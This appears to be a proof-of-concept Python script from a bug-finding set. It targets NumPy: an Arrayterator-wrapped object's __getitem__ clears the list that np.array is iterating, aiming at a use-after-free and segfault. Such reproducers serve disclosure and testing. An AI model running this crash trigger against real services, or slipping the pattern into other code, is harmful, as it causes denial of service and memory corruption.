# source: numpy/lib/arrayterator.py Arrayterator.__array__ (calls self.var[slices] on the wrapped object) + numpy array_coercion.c PyArray_DiscoverDTypeAndShape_Recursive (loops over PySequence_Fast_ITEMS of the list, borrowed, calling __array__() of each item)
# family: library wrapper object (np.lib.Arrayterator) whose __array__ runs a script __getitem__; a script without any __len__ gets no __getitem__ restriction; the script's code frees the list numpy is iterating
# goal: use-after-free of the list's item array and of its items inside np.array(list): numpy reads a freed row (crash, SIGSEGV)
import numpy as np

rows = []


class Window:
    shape = (1,)

    def __getitem__(self, key):
        if rows:
            print("script code runs inside numpy's loop over rows: clearing rows", flush=True)
            rows.clear()
        return np.array([1.0])


view = np.lib.Arrayterator(Window())
rows.extend([view, [2.0], [3.0]])
out = np.array(rows)
print("survived:", out)
